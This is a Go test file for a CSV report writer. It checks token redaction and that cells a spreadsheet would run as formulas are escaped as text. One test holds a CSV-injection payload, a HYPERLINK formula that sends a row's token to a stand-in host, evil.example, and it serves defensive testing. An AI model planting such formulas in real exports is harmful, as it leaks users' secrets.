package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"groupsync/reconcile"
)

func TestWriter(t *testing.T) {
	yes := true
	rows := []reconcile.Result{
		{ID: "a", Name: "Acme, Inc.", Action: reconcile.ActionCreate, Status: reconcile.StatusOK, New: &yes, Token: "t1", EnvTag: "Customer", Attempts: 1, Code: 200},
		{ID: "b", Name: "B", Action: reconcile.ActionUpdate, Status: reconcile.StatusFailed, Token: "t2", Attempts: 2, Code: 400, Err: errors.New(`HTTP 400: "bad"`)},
		{ID: "c", Name: "C", Action: reconcile.ActionNoop, Status: reconcile.StatusOK, Token: "t3"},
		{ID: "d", Name: "D", Action: reconcile.ActionCreate, Status: reconcile.StatusFailed, New: &yes, Attempts: 1},
	}
	for _, tt := range []struct {
		name   string
		redact bool
		want   string
	}{
		{"Tokens", false, `user_group_id,name,action,status,new_user_group,token,api_environment_tag,attempts,http_status,error
a,"Acme, Inc.",create,ok,true,t1,Customer,1,200,
b,B,update,failed,,t2,,2,400,"HTTP 400: ""bad"""
c,C,noop,ok,,t3,,,,
d,D,create,failed,,,,1,,
`},
		{"Redacted", true, `user_group_id,name,action,status,new_user_group,token,api_environment_tag,attempts,http_status,error
a,"Acme, Inc.",create,ok,true,,Customer,1,200,
b,B,update,failed,,,,2,400,"HTTP 400: ""bad"""
c,C,noop,ok,,,,,,
d,D,create,failed,,,,1,,
`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			w, err := NewWriter(&b, tt.redact)
			if err != nil {
				t.Fatal(err)
			}
			for i := range rows {
				if err := w.Write(&rows[i]); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			if got := b.String(); got != tt.want {
				t.Errorf("report =\n%s\nwant\n%s", got, tt.want)
			}
		})
	}
}

// A cell a spreadsheet would run as a formula is written as text, in every
// column: the attack is a customer name that sends its row's token away.
func TestWriter_NeutralizesFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?t="&F2,"x")`
	r := reconcile.Result{ID: "@id", Name: evil, Action: reconcile.ActionCreate, Status: reconcile.StatusFailed,
		Token: "-token", EnvTag: "+tag", Err: errors.New("\tboom")}
	var b bytes.Buffer
	w, _ := NewWriter(&b, false)
	w.Write(&r)
	w.Close()
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range recs[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
			t.Errorf("column %s starts with %q: %q", Header[i], cell[0], cell)
		}
	}
	if recs[1][1] != "'"+evil {
		t.Errorf("name = %q", recs[1][1])
	}
}

// A cell that starts with a carriage return or a line feed is neutralised
// too: a spreadsheet skips the break and runs what follows as a formula.
func TestWriter_NeutralizesLineBreaksFirst(t *testing.T) {
	for _, first := range []string{"\r", "\n", "\r\n"} {
		r := reconcile.Result{ID: "a", Name: first + "=1+1", Action: reconcile.ActionCreate, Status: reconcile.StatusOK}
		var b bytes.Buffer
		w, _ := NewWriter(&b, false)
		w.Write(&r)
		w.Close()
		recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		// encoding/csv reads a quoted CRLF back as LF.
		if got := recs[1][1]; !strings.HasPrefix(got, "'") || !strings.HasSuffix(got, "=1+1") {
			t.Errorf("name %q written as %q, want it behind a '", first+"=1+1", got)
		}
	}
}
